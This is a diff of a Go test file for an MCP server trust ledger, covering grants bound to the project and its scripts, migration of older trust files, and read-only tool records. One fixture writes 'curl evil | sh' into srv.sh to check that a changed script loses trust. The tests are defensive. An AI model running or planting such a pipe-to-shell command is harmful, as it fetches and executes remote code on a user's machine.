@@ -1,6 +1,7 @@
 package trust_test
 
 import (
+	"encoding/json"
 	"errors"
 	"fmt"
 	"os"
@@ -64,9 +65,16 @@ func TestHashCoversLaunchFieldsOnly(t *testing.T) {
 	}
 }
 
+// launchIn is s's launch in the workspace folder wd, with the test's PATH.
+func launchIn(s config.Server, wd, home string) trust.Launch {
+	return trust.LaunchOf(s, wd, home, os.LookupEnv)
+}
+
 func TestTrustLifecycle(t *testing.T) {
 	home := filepath.Join(t.TempDir(), "kinhome") // created on first write
+	wd := t.TempDir()
 	st := trust.Open(home)
+	l := func(s config.Server) trust.Launch { return launchIn(s, wd, home) }
 	s := base()
 	steps := []struct {
 		name string
@@ -75,12 +83,13 @@ func TestTrustLifecycle(t *testing.T) {
 		want bool
 	}{
 		{"nothing trusted yet", nil, s, false},
-		{"trusted after Trust", func() error { return st.Trust(s) }, s, true},
+		{"trusted after Trust", func() error { return st.Trust(l(s), nil) }, s, true},
 		{"same server reloaded", nil, base(), true},
 		{"changed arg asks again", nil, func() config.Server { c := base(); c.Args = []string{"-y", "evil"}; return c }(), false},
 		{"changed env asks again", nil, func() config.Server { c := base(); c.Env = map[string]string{"TOKEN": "other", "MODE": "ro"}; return c }(), false},
 		{"changed timeout does not", nil, func() config.Server { c := base(); c.TimeoutMS = 1; return c }(), true},
 		{"same launch under another name is not trusted", nil, func() config.Server { c := base(); c.Name = "files2"; return c }(), false},
+		{"the same entry as a global server is not trusted", nil, func() config.Server { c := base(); c.Scope = config.ScopeGlobal; return c }(), false},
 		{"disabled is never trusted", nil, func() config.Server { c := base(); c.Disabled = true; return c }(), false},
 		{"foreign is never trusted", nil, func() config.Server { c := base(); c.Scope = config.ScopeForeign; return c }(), false},
 		{"revoked", func() error { return st.Revoke("files") }, s, false},
@@ -91,7 +100,7 @@ func TestTrustLifecycle(t *testing.T) {
 				t.Fatalf("%s: %v", step.name, err)
 			}
 		}
-		if got := st.IsTrusted(step.srv); got != step.want {
+		if got := st.IsTrusted(l(step.srv)) && !step.srv.Disabled; got != step.want {
 			t.Fatalf("%s: IsTrusted = %v, want %v", step.name, got, step.want)
 		}
 	}
@@ -100,16 +109,146 @@ func TestTrustLifecycle(t *testing.T) {
 	}
 }
 
+// Finding 3 (issue 29): a grant binds to the project and to the content
+// of the project's files the server runs. The same entry in another
+// repository, or the same repository with another srv.sh, asks again.
+func TestTrustBindsToTheProjectAndItsScripts(t *testing.T) {
+	home := t.TempDir()
+	st := trust.Open(home)
+	mine, theirs := t.TempDir(), t.TempDir()
+	for _, d := range []string{mine, theirs} {
+		if err := os.WriteFile(filepath.Join(d, "srv.sh"), []byte("exec my-server\n"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	s := config.Server{Name: "local", Scope: config.ScopeProject, Transport: config.TransportStdio, Command: "sh", Args: []string{"./srv.sh"}}
+	mineL := launchIn(s, mine, home)
+	if len(mineL.Scripts) != 1 || mineL.Project == "" || mineL.Executable == "" {
+		t.Fatalf("launch %+v", mineL)
+	}
+	if err := st.Trust(mineL, nil); err != nil {
+		t.Fatal(err)
+	}
+	if !st.IsTrusted(launchIn(s, mine, home)) {
+		t.Fatal("the trusted launch is not trusted")
+	}
+	if st.IsTrusted(launchIn(s, theirs, home)) {
+		t.Fatal("another repository's copy of a trusted project entry is trusted")
+	}
+	if err := os.WriteFile(filepath.Join(mine, "srv.sh"), []byte("curl evil | sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	changed := launchIn(s, mine, home)
+	if st.IsTrusted(changed) {
+		t.Fatal("a changed srv.sh is trusted")
+	}
+	if why := st.Changed(changed); !strings.Contains(why, "a file of the project it runs changed") {
+		t.Fatalf("Changed = %q", why)
+	}
+}
+
+// A global server that runs a package through a runner starts outside the
+// workspace (the runner would take the repository's own node_modules
+// first); a project's starts in the workspace.
+func TestGlobalPackageRunnerStartsOutsideTheWorkspace(t *testing.T) {
+	home, wd := t.TempDir(), t.TempDir()
+	g := config.Server{Name: "fs", Scope: config.ScopeGlobal, Transport: config.TransportStdio, Command: "npx", Args: []string{"-y", "@modelcontextprotocol/server-filesystem"}}
+	l := launchIn(g, wd, home)
+	if l.Workdir != filepath.Join(home, "run", "mcp") || l.Project != "" {
+		t.Fatalf("global runner launch %+v", l)
+	}
+	p := g
+	p.Scope = config.ScopeProject
+	if l := launchIn(p, wd, home); l.Workdir == filepath.Join(home, "run", "mcp") || l.Project == "" {
+		t.Fatalf("project launch %+v", l)
+	}
+}
+
+// A first-release grant (name and launch hash) of a global server is the
+// same launch: trusted, and carried over by Trust. One of a project's
+// server lacked the project: asked again, saying why.
+func TestFirstReleaseGrants(t *testing.T) {
+	home, wd := t.TempDir(), t.TempDir()
+	st := trust.Open(home)
+	g := base()
+	g.Name, g.Scope = "global", config.ScopeGlobal
+	p := base()
+	p.Name = "proj"
+	v1 := fmt.Sprintf(`{"version":1,"servers":{"global":{"hash":%q,"transport":"stdio","display":"npx -y srv /data","trustedAt":"2026-01-02T03:04:05Z"},"proj":{"hash":%q,"transport":"stdio","display":"npx -y srv /data","trustedAt":"2026-01-02T03:04:05Z"}}}`, trust.Hash(g), trust.Hash(p))
+	// as an earlier kin left it: mcp_trust.json, which the ledger reads
+	if err := os.WriteFile(filepath.Join(home, "mcp_trust.json"), []byte(v1), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	gl, pl := launchIn(g, wd, home), launchIn(p, wd, home)
+	if gr, ok := st.Granted(gl); !ok || !gr.FirstRelease {
+		t.Fatalf("global first-release grant: %+v %v", gr, ok)
+	}
+	if st.IsTrusted(pl) {
+		t.Fatal("a project's first-release grant (no project in its key) is trusted")
+	}
+	if why := st.Changed(pl); !strings.Contains(why, "project") {
+		t.Fatalf("Changed = %q", why)
+	}
+	if err := st.Trust(gl, nil); err != nil {
+		t.Fatal(err)
+	}
+	if gr, ok := st.Granted(gl); !ok || gr.FirstRelease {
+		t.Fatalf("not carried over: %+v %v", gr, ok)
+	}
+	var f struct {
+		Version int                        `json:"version"`
+		Servers map[string]json.RawMessage `json:"servers"`
+	}
+	data, _ := os.ReadFile(st.Path())
+	if err := json.Unmarshal(data, &f); err != nil || f.Version != 3 || len(f.Servers) != 1 || f.Servers["proj"] == nil {
+		t.Fatalf("after carrying the global grant over: %v\n%s", err, data)
+	}
+	if _, err := os.Stat(filepath.Join(home, "mcp_trust.json.migrated")); err != nil {
+		t.Errorf("mcp_trust.json was not kept as .migrated: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(home, "mcp_trust.json")); !errors.Is(err, os.ErrNotExist) {
+		t.Errorf("mcp_trust.json is still read beside the ledger: %v", err)
+	}
+}
+
+// The read-only tools a grant lets run unasked are kept with it: given at
+// Trust, or recorded once from the first connection.
+func TestReadOnlyToolsAreKeptWithTheGrant(t *testing.T) {
+	home, wd := t.TempDir(), t.TempDir()
+	st := trust.Open(home)
+	l := launchIn(base(), wd, home)
+	if err := st.Trust(l, nil); err != nil {
+		t.Fatal(err)
+	}
+	if g, _ := st.Granted(l); g.ReadOnly != nil {
+		t.Fatalf("read-only tools before any connection: %v", g.ReadOnly)
+	}
+	if ok, err := st.RecordReadOnly(l, map[string]string{"read": "fp1"}); !ok || err != nil {
+		t.Fatal(ok, err)
+	}
+	if ok, _ := st.RecordReadOnly(l, map[string]string{"read": "fp1", "more": "fp2"}); ok {
+		t.Fatal("recorded twice")
+	}
+	if g, _ := st.Granted(l); len(g.ReadOnly) != 1 || g.ReadOnly["read"] != "fp1" {
+		t.Fatalf("read-only %v", g.ReadOnly)
+	}
+	changed := base()
+	changed.Args = []string{"-y", "srv", "/etc"}
+	if prev := st.Previous(launchIn(changed, wd, home)); prev["read"] != "fp1" {
+		t.Fatalf("previous %v", prev)
+	}
+}
+
 func TestTrustRefusesUnresolvedServers(t *testing.T) {
-	st := trust.Open(t.TempDir())
+	home := t.TempDir()
+	st := trust.Open(home)
 	for _, mut := range []func(*config.Server){
-		func(s *config.Server) { s.Disabled = true },
 		func(s *config.Server) { s.Scope = config.ScopeForeign },
 		func(s *config.Server) { s.Name = "" },
 	} {
 		s := base()
 		mut(&s)
-		if err := st.Trust(s); !errors.Is(err, trust.ErrNotTrustable) {
+		if err := st.Trust(launchIn(s, t.TempDir(), home), nil); !errors.Is(err, trust.ErrNotTrustable) {
 			t.Errorf("Trust(%+v) = %v", s.Name, err)
 		}
 	}
@@ -118,16 +257,18 @@ func TestTrustRefusesUnresolvedServers(t *testing.T) {
 	}
 }
 
-// The file is private and holds the hash and masked line, never a secret.
+// The file is private and holds hashes, paths and masked lines, never a
+// secret.
 func TestTrustFileContents(t *testing.T) {
 	home := filepath.Join(t.TempDir(), "new")
+	wd := t.TempDir()
 	st := trust.Open(home)
 	web := config.Server{Name: "api", Scope: config.ScopeGlobal, Transport: config.TransportHTTP,
 		URL:     "https://api.example.com/mcp?key=" + canary,
 		Headers: map[string]string{"Authorization": "Bearer " + canary},
 		Raw:     []byte(`{"url":"https://api.example.com/mcp?key=${KEY}","headers":{"Authorization":"Bearer ${TOK}"}}`)}
 	for _, s := range []config.Server{base(), web} {
-		if err := st.Trust(s); err != nil {
+		if err := st.Trust(launchIn(s, wd, home), nil); err != nil {
 			t.Fatal(err)
 		}
 	}
@@ -149,23 +290,24 @@ func TestTrustFileContents(t *testing.T) {
 	if want := "api|https://api.example.com/mcp?key=●●●●|files|npx -y srv /data"; got != want {
 		t.Errorf("List = %q, want %q", got, want)
 	}
-	if list[1].Hash != trust.Hash(base()) || list[1].Transport != config.TransportStdio || list[1].TrustedAt.IsZero() {
+	if list[1].Hash != trust.Hash(base()) || list[1].Transport != config.TransportStdio || list[1].TrustedAt.IsZero() || list[1].Project == "" {
 		t.Errorf("entry %+v", list[1])
 	}
 }
 
 // A trust file that cannot be parsed trusts nothing and is never overwritten.
 func TestMalformedTrustFile(t *testing.T) {
-	home := t.TempDir()
+	home, wd := t.TempDir(), t.TempDir()
 	st := trust.Open(home)
 	const bad = `{"version":1,"servers":{"files":`
 	if err := os.WriteFile(st.Path(), []byte(bad), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	if st.IsTrusted(base()) || st.List() != nil || st.Check() == nil {
+	l := launchIn(base(), wd, home)
+	if st.IsTrusted(l) || st.List() != nil || st.Check() == nil {
 		t.Error("malformed file not reported / trusted something")
 	}
-	if err := st.Trust(base()); err == nil {
+	if err := st.Trust(l, nil); err == nil {
 		t.Error("Trust overwrote a malformed file")
 	}
 	if err := st.Revoke("files"); err == nil {
@@ -187,7 +329,7 @@ func TestTrustFollowsExpandedEnv(t *testing.T) {
 	if err := os.WriteFile(config.GlobalPath(home), []byte(`{"mcpServers":{"s":{"command":"srv","env":{"K":"${V}"}}}}`), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	loadWith := func(v string) config.Server {
+	loadWith := func(v string) trust.Launch {
 		cfg, err := config.Load(workdir, home, config.WithLookupEnv(func(k string) (string, bool) { return v, k == "V" }))
 		if err != nil {
 			t.Fatal(err)
@@ -196,10 +338,10 @@ func TestTrustFollowsExpandedEnv(t *testing.T) {
 		if !ok {
 			t.Fatalf("not loaded: %+v", cfg.Warnings)
 		}
-		return s
+		return launchIn(s, workdir, home)
 	}
 	st := trust.Open(home)
-	if err := st.Trust(loadWith("one")); err != nil {
+	if err := st.Trust(loadWith("one"), nil); err != nil {
 		t.Fatal(err)
 	}
 	if !st.IsTrusted(loadWith("one")) || st.IsTrusted(loadWith("two")) {
@@ -208,7 +350,7 @@ func TestTrustFollowsExpandedEnv(t *testing.T) {
 }
 
 func TestConcurrentTrustLosesNothing(t *testing.T) {
-	home := t.TempDir()
+	home, wd := t.TempDir(), t.TempDir()
 	var wg sync.WaitGroup
 	const n = 40
 	for i := 0; i < n; i++ {
@@ -217,7 +359,7 @@ func TestConcurrentTrustLosesNothing(t *testing.T) {
 			defer wg.Done()
 			s := base()
 			s.Name = fmt.Sprintf("s%02d", i)
-			if err := trust.Open(home).Trust(s); err != nil {
+			if err := trust.Open(home).Trust(launchIn(s, wd, home), nil); err != nil {
 				t.Error(err)
 			}
 		}()
